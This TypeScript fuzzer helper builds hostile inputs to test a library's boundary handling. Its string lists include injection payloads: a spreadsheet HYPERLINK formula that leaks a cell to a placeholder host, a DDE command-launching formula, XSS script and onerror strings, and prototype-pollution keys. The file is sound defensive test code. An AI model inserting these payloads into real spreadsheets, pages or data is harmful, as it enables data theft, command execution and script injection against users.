// Hostile values and mutations of valid inputs, for the boundary fuzzer (issue 17). Every value here is something a
// caller can pass through plain JavaScript or JSON; the library must answer each with a result or a ShuangsuijiError.
import fc from "fast-check";
import { types } from "node:util";

/** Nesting depth of the "deep" values (the 10^4 levels). */
export const DEEP = 10_000;

const POLLUTION_KEYS = ["__proto__", "constructor", "prototype", "valueOf", "toString", "hasOwnProperty", "__defineGetter__", "isPrototypeOf"];

function throwingProxy(target: object = {}): object {
  const boom = () => {
    throw new Error("hostile proxy trap");
  };
  return new Proxy(target, {
    get: boom, has: boom, ownKeys: boom, getOwnPropertyDescriptor: boom, getPrototypeOf: boom, set: boom, defineProperty: boom,
    deleteProperty: boom, isExtensible: boom, preventExtensions: boom, setPrototypeOf: boom, apply: boom, construct: boom,
  });
}

function deepArray(depth: number): unknown {
  let v: unknown = [];
  for (let i = 0; i < depth; i++) v = [v];
  return v;
}
function deepObject(depth: number): unknown {
  let v: unknown = { leaf: 1 };
  for (let i = 0; i < depth; i++) v = { a: v };
  return v;
}
function hugeSparseArray(length: number): unknown[] {
  const a: unknown[] = [];
  a.length = length;
  return a;
}
function withGetterThatThrows(): object {
  return Object.defineProperty({}, "id", { enumerable: true, configurable: true, get: () => { throw new Error("hostile getter"); } });
}
/** An object literal whose own key is `__proto__` (what JSON.parse produces from `{"__proto__": …}`). */
function ownProtoKey(): object {
  return JSON.parse('{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}') as object;
}

/** Factories, so each input gets fresh objects (a function that freezes its input cannot affect the next input). */
export const SPECIAL_VALUES: readonly (readonly [name: string, make: () => unknown])[] = [
  ["undefined", () => undefined], ["null", () => null], ["true", () => true], ["NaN", () => Number.NaN],
  ["Infinity", () => Number.POSITIVE_INFINITY], ["-Infinity", () => Number.NEGATIVE_INFINITY], ["-0", () => -0],
  ["-1", () => -1], ["0.1", () => 0.1], ["1e-7", () => 1e-7], ["2^31", () => 2 ** 31], ["2^53", () => 2 ** 53],
  ["1e308", () => 1e308], ["1073741824.0000002", () => 1073741824.0000002], ["BigInt", () => 10n], ["Symbol", () => Symbol("hostile")],
  ["function", () => () => 1], ["''", () => ""], ["' '", () => " "], ["lone high surrogate", () => "\uD800"],
  ["lone low surrogate", () => "a\uDC00b"], ["NUL", () => "\u0000"], ["'__proto__'", () => "__proto__"],
  ["'constructor'", () => "constructor"], ["'valueOf'", () => "valueOf"], ["'toString'", () => "toString"],
  ["'2026-02-30'", () => "2026-02-30"], ["'0000-01-01'", () => "0000-01-01"], ["'yesterday'", () => "yesterday"],
  ["formula", () => "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")"], ["html", () => "<script>alert(1)</script>\"'&"],
  ["long string", () => "x".repeat(100_000)], ["{}", () => ({})], ["[]", () => []], ["[hole]", () => [, 1]],
  ["Object.create(null)", () => Object.create(null) as object], ["throwing proxy", () => throwingProxy()],
  ["throwing array proxy", () => throwingProxy([])], ["throwing getter", withGetterThatThrows],
  ["own __proto__ key", ownProtoKey], ["deep array", () => deepArray(DEEP)], ["deep object", () => deepObject(DEEP)],
  ["sparse array 1e6", () => hugeSparseArray(1_000_000)], ["sparse array 2^32-1", () => hugeSparseArray(2 ** 32 - 1)],
  ["Uint8Array", () => new Uint8Array(4)], ["Date(NaN)", () => new Date(Number.NaN)], ["Map", () => new Map([["a", 1]])],
  ["boxed string", () => Object("x") as object], ["Promise", () => Promise.resolve(1)],
  ["regexp", () => /x/], ["Error", () => new Error("x")], ["typed array big", () => new Float64Array(8)],
];


/** fc.anything with prototype-pollution keys, BigInt, boxed values, null prototypes, holes, typed arrays, dates. */
const anything = fc.anything({
  key: fc.oneof(fc.string({ maxLength: 6 }), fc.constantFrom(...POLLUTION_KEYS)),
  maxDepth: 3,
  withBigInt: true, withBoxedValues: true, withDate: true, withMap: true, withSet: true, withNullPrototype: true,
  withObjectString: true, withSparseArray: true, withTypedArray: true, withUnicodeString: true,
});

/**
 * A recipe for one hostile value. fast-check inspects the values it generates (`fc.cloneMethod in value`), which a
 * throwing Proxy would break, so generation yields recipes and {@link materialize} builds the values afterwards.
 */
export type HostileSpec = { readonly special: number } | { readonly plain: unknown };
export const hostileValue: fc.Arbitrary<HostileSpec> = fc.oneof(
  { weight: 3, arbitrary: fc.nat({ max: SPECIAL_VALUES.length - 1 }).map((special) => ({ special })) },
  { weight: 2, arbitrary: anything.map((plain) => ({ plain })) },
);
/** Builds the value of a recipe (fresh objects every time). */
export function materialize(spec: HostileSpec): unknown {
  return "special" in spec ? SPECIAL_VALUES[spec.special]![1]() : clonePlain(spec.plain);
}

const NUMBER_TWEAKS = [Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY, -1, 0, 0.5, 1e-7, 1e9, 2 ** 31, 2 ** 53 + 2, 1073741824.0000002, -0, 1e308];
const STRING_TWEAKS = ["", " ", "\uD800", "__proto__", "constructor", "valueOf", "hasOwnProperty", "2026-02-30", "0000-01-01", "yesterday", "9999-12-31",
  "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "<img src=x onerror=alert(1)>", "\" onload=\"x", "x".repeat(50_000)];

type Container = Record<PropertyKey, unknown>;
interface Slot { readonly parent: Container | undefined; readonly key: PropertyKey | undefined }

/** Copies plain data (arrays, plain and null-prototype objects, Dates, typed arrays) so mutations never reach the original. */
export function clonePlain(value: unknown): unknown {
  const seen = new Map<object, unknown>();
  const copy = (v: unknown, depth: number): unknown => {
    if (v === null || typeof v !== "object") return v;
    if (seen.has(v)) return seen.get(v);
    if (depth > 200 || isOpaque(v)) return v;
    if (v instanceof Date) return new Date(v.getTime());
    if (ArrayBuffer.isView(v)) return (v as Uint8Array).slice();
    if (Array.isArray(v)) {
      const out: unknown[] = [];
      seen.set(v, out);
      for (let i = 0; i < v.length; i++) if (i in v) out[i] = copy(v[i], depth + 1);
      out.length = v.length;
      return out;
    }
    const proto = Object.getPrototypeOf(v) as unknown;
    if (proto !== Object.prototype && proto !== null) return v;
    const out: Container = proto === null ? (Object.create(null) as Container) : {};
    seen.set(v, out);
    for (const k of Object.keys(v)) {
      const d = Object.getOwnPropertyDescriptor(v, k)!;
      Object.defineProperty(out, k, "value" in d ? { value: copy(d.value, depth + 1), enumerable: true, writable: true, configurable: true } : d);
    }
    return out;
  };
  return copy(value, 0);
}

/** Library objects (zod schemas) and promises are passed through untouched. */
export function isOpaque(v: object): boolean {
  if (types.isProxy(v)) return true;
  return "_zod" in v || v instanceof Promise || typeof (v as { then?: unknown }).then === "function";
}

/** An own data property's value without running getters (a getter counts as no value). */
function ownValue(c: Container, k: PropertyKey): unknown {
  const d = Object.getOwnPropertyDescriptor(c, k);
  return d !== undefined && "value" in d ? d.value : undefined;
}

function slots(root: unknown[], limit = 400): Slot[] {
  const out: Slot[] = [];
  const stack: Container[] = [root as unknown as Container];
  const seen = new Set<object>();
  while (stack.length > 0 && out.length < limit) {
    const c = stack.pop()!;
    if (seen.has(c)) continue;
    seen.add(c);
    for (const k of Object.keys(c)) {
      out.push({ parent: c, key: k });
      const v = ownValue(c, k);
      if (v !== null && typeof v === "object" && !isOpaque(v) && (Array.isArray(v) || [Object.prototype, null].includes(Object.getPrototypeOf(v)))) stack.push(v as Container);
    }
  }
  return out;
}

/** One mutation: where (an index into the value's slots), what, and the hostile material. */
export interface Mutation { readonly at: number; readonly op: number; readonly pick: number; readonly value: HostileSpec }
export const mutation: fc.Arbitrary<Mutation> = fc.record({ at: fc.nat(), op: fc.nat({ max: 9 }), pick: fc.nat(), value: hostileValue });

function set(s: Slot, v: unknown): void {
  if (s.parent === undefined || s.key === undefined || Object.getOwnPropertyDescriptor(s.parent, s.key)?.configurable === false) return;
  Object.defineProperty(s.parent, s.key, { value: v, enumerable: true, writable: true, configurable: true });
}

function safeString(v: unknown): string {
  try {
    return typeof v === "symbol" ? v.toString() : String(v);
  } catch {
    return "[object Object]";
  }
}

/** Applies mutations to a copy of `args` (the top-level argument list is itself a container). */
export function mutate(args: readonly unknown[], ms: readonly Mutation[]): unknown[] {
  const root = clonePlain([...args]) as unknown[];
  for (const m of ms) {
    const all = slots(root);
    if (all.length === 0) {
      root.push(materialize(m.value));
      continue;
    }
    const value = materialize(m.value);
    const s = all[m.at % all.length]!;
    const cur = ownValue(s.parent!, s.key!);
    const obj = cur !== null && typeof cur === "object" && !types.isProxy(cur);
    try {
    switch (m.op) {
      case 0: set(s, value); break; // replace by a hostile value
      case 1: delete s.parent![s.key!]; break; // remove a field / punch a hole
      case 2: // prototype-pollution keys as own keys
        if (obj) Object.defineProperty(cur, POLLUTION_KEYS[m.pick % POLLUTION_KEYS.length]!, { value: value, enumerable: true, writable: true, configurable: true });
        else set(s, value);
        break;
      case 3: set(s, obj ? throwingProxy(cur) : value); break;
      case 4: // same fields, null prototype
        set(s, obj && !Array.isArray(cur) ? Object.assign(Object.create(null) as object, cur) : value);
        break;
      case 5: set(s, typeof cur === "number" ? NUMBER_TWEAKS[m.pick % NUMBER_TWEAKS.length] : STRING_TWEAKS[m.pick % STRING_TWEAKS.length]); break;
      case 6: set(s, typeof cur === "string" ? cur + STRING_TWEAKS[m.pick % STRING_TWEAKS.length]! : NUMBER_TWEAKS[m.pick % NUMBER_TWEAKS.length]); break;
      case 7: // arrays: duplicate an element, append junk, or make it huge and sparse
        if (obj && Array.isArray(cur)) {
          const k = m.pick % 4;
          if (k === 0 && cur.length > 0) cur.push(clonePlain(cur[0]));
          else if (k === 1) cur.push(value);
          else if (k === 2) cur.length = 1_000_000;
          else cur.reverse();
        } else set(s, [cur, value]);
        break;
      case 8: set(s, m.pick % 2 === 0 ? deepArray(DEEP) : deepObject(DEEP)); break;
      default: set(s, obj || typeof cur !== "object" ? safeString(cur) : value); // a value of the wrong type that looks right
    }
    } catch {
      // a mutation that does not apply to this value (e.g. pushing onto an array of length 2^32 − 1)
    }
  }
  return root;
}

/** A short, safe description of a value for reports (never throws: Proxies, BigInt, cycles, deep values). */
export function describeValue(value: unknown, budget = 300): string {
  const seen = new Set<object>();
  const go = (v: unknown, depth: number): string => {
    try {
      if (typeof v === "bigint") return `${v}n`;
      if (typeof v === "symbol") return String(v);
      if (typeof v === "function") return "[function]";
      if (typeof v === "string") return JSON.stringify(v.length > 40 ? `${v.slice(0, 40)}…(${v.length} chars)` : v);
      if (typeof v === "number") return Object.is(v, -0) ? "-0" : String(v);
      if (v === null || typeof v !== "object") return String(v);
      if (seen.has(v)) return "[cycle]";
      seen.add(v);
      if (depth > 4) return Array.isArray(v) ? "[…deep]" : "{…deep}";
      if (v instanceof Date) return `Date(${v.getTime()})`;
      if (ArrayBuffer.isView(v)) return v.constructor.name;
      if (isOpaque(v)) return "[zod schema/promise]";
      if (Array.isArray(v)) {
        if (v.length > 20) return `[array length ${v.length}]`;
        return `[${Array.from({ length: v.length }, (_, i) => (i in v ? go(v[i], depth + 1) : "<hole>")).join(", ")}]`;
      }
      const proto = Object.getPrototypeOf(v) as unknown;
      const keys = Object.keys(v);
      const body = keys.slice(0, 12).map((k) => `${JSON.stringify(k)}: ${go((v as Container)[k], depth + 1)}`).join(", ");
      return `${proto === null ? "nullproto" : proto === Object.prototype ? "" : (v.constructor?.name ?? "?")}{${body}${keys.length > 12 ? ", …" : ""}}`;
    } catch {
      return "[throwing proxy/getter]";
    }
  };
  const s = go(value, 0);
  return s.length > budget ? `${s.slice(0, budget)}…` : s;
}
